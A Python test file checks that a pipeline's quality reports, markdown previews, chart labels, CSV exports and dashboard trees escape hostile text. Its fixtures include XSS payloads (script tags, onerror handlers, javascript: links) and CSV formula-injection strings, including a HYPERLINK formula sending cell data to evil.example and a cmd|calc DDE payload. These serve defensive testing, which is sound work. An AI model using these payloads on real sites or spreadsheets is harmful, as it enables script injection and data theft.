"""Markup, scripts and formulas in the words of documents: shown as they are on every page and in files."""

import csv
import datetime as dt
import io
import re

import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from assets.common import preview
from dashboard.download import DANGEROUS, csv_bytes
from dashboard.tree import el
from expectations.factory import _table
from pipeline.briefing.pictures import bars_by_name, life_cycles
from pipeline.markup import markdown_cell, picture_label
from pipeline.quality import CheckResult
from pipeline.quality_report import ReportFacts, render_report

EVIL = (
    "<script>alert(1)</script><img src=x onerror=alert(2)>'\"&{{7*7}}{% raw %} ](javascript:alert(3)) "
    "![x](http://evil.example/pixel.png) [click](data:text/html,x) `code` **b** | \\| </td></table>"
)
NOW = dt.datetime(2026, 1, 1, tzinfo=dt.UTC)


def check(offending):
    return CheckResult(
        suite="s", stage="clean", table="documents", expectation="e", column=None, severity="warning",
        success=False, observed=EVIL, rows=1, unexpected_count=1, offending=offending,
        reason=EVIL, error=None,
    )  # fmt: skip


def tags(page):
    """Names of the elements that a browser makes of a page, and its attributes that run code."""
    return set(re.findall(r"<\s*(script|img|iframe|object|embed|svg|form|base|link)\b", page, re.I))


def test_the_quality_report_shows_markup_as_text():
    from pipeline.quality import SuiteResult

    suite = SuiteResult("s", "clean", "run", NOW, {}, (check(({"title": EVIL, EVIL: "x"},)),))
    facts = ReportFacts(
        NOW, EVIL, False, EVIL, EVIL, {EVIL: 1}, [(EVIL, EVIL, EVIL)], [(EVIL, "s", "c", EVIL)], []
    )
    page = render_report([suite], facts)
    assert tags(page) == set()
    assert "&lt;script&gt;alert(1)" in page
    assert "49" not in page.split("alert(1)")[1][:200]


def unescaped(markdown):
    """The text without what a backslash takes the meaning from."""
    return re.sub(r"\\[\\|<*\[`]", "", markdown)


def test_markdown_previews_hold_no_tag_link_picture_or_cell_of_a_document_s_own():
    frame = pl.DataFrame({"title": [EVIL, "=1+1", None], "evidence": [["a|b", "<b>"], [], None]})
    for text in (preview(frame).md_str, _table(check(({"title": EVIL},)))):
        for line in text.splitlines()[2:]:
            bare = unescaped(line)
            assert "<" not in bare and "[" not in bare and "`" not in bare and "**" not in bare
    lines = unescaped(preview(frame).md_str).splitlines()
    assert {line.count("|") for line in lines} == {3}


@given(st.text(max_size=80), st.integers(min_value=1, max_value=60))
def test_a_markdown_cell_is_one_line_that_ends_no_cell(text, longest):
    cell = markdown_cell(text, longest)
    assert "|" not in unescaped(cell) and "<" not in unescaped(cell)
    assert len(cell.splitlines()) <= 1
    assert len(unescaped(cell)) <= longest


@pytest.mark.parametrize(
    "label", ["$\\frac$", "a $5 deal and a $6 deal", "\\$x$", EVIL, "$" * 9, "x_{1}^2", "\x0b", "💥"]
)
@pytest.mark.filterwarnings("ignore:Glyph")
def test_labels_of_pictures_are_no_formulas_and_no_markup(label):
    picture = life_cycles([(label, [(NOW.date(), "held"), (NOW.date(), "scheduled")])]).decode()
    assert "<script" not in picture and "<img" not in picture
    assert bars_by_name({label: 1}, "documents", "svg")
    assert bars_by_name({label: 1}, "documents", "png").startswith(b"\x89PNG")


def test_a_label_with_two_prices_keeps_its_signs():
    picture = life_cycles([("a $5 deal and a $6 deal", [(NOW.date(), "held")])]).decode()
    assert "a $5 deal and a $6 deal" in picture
    assert picture_label("no sign") == "no sign"


FORMULAS = [
    '=HYPERLINK("http://evil.example?x="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3+cmd|x",
    "@SUM(1+9)*cmd|x",
    "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "＝1+1", "＠x", "\ufeff=1",
    "\u200b=1+1", '"=1+1', "'=1+1",
]  # fmt: skip


@pytest.mark.parametrize("text", FORMULAS)
def test_no_cell_of_a_csv_begins_a_formula(text):
    frame = pl.DataFrame(
        {"title": [text], "issues": [[text, "x"]], "n": [-1], "share": [-0.5], "day": [NOW.date()]}
    )
    raw = csv_bytes(frame).decode("utf-8-sig")
    (row,) = csv.DictReader(io.StringIO(raw, newline=""))
    for name in ("title", "issues"):
        seen = row[name].lstrip("\ufeff\u200b\u00a0 ")
        assert seen[0] not in DANGEROUS
        assert text in row[name]
    assert (row["n"], row["share"], row["day"]) == ("-1", "-0.5", "2026-01-01")


@given(st.lists(st.text(st.characters(exclude_categories=["Cs"]), max_size=30), min_size=1, max_size=5))
def test_a_csv_gives_every_text_back_in_its_own_cell(texts):
    raw = csv_bytes(pl.DataFrame({"a": texts, "b": texts[::-1]})).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(raw, newline=""), strict=True))
    assert rows[0] == ["a", "b"]
    assert [row[0].removeprefix("'") for row in rows[1:]] == [text.removeprefix("'") for text in texts]


@pytest.mark.parametrize(
    "url",
    ["javascript:alert(1)", "JaVaScRiPt:x", "data:text/html,x", " javascript:x", "//evil", "vbscript:x"],
)
def test_a_tree_of_the_dashboard_links_to_web_pages_only(url):
    assert "url" not in el("a", "x", url=url)


def test_a_tree_of_the_dashboard_has_no_tags_or_attributes_that_run_code():
    for tag in ("script", "iframe", "img", "svg", "object", "style", "form"):
        with pytest.raises(ValueError, match="no such tag"):
            el(tag)
    with pytest.raises(ValueError, match="no such attribute"):
        el("a", onclick="alert(1)")
    assert el("p", EVIL)["c"] == [EVIL]
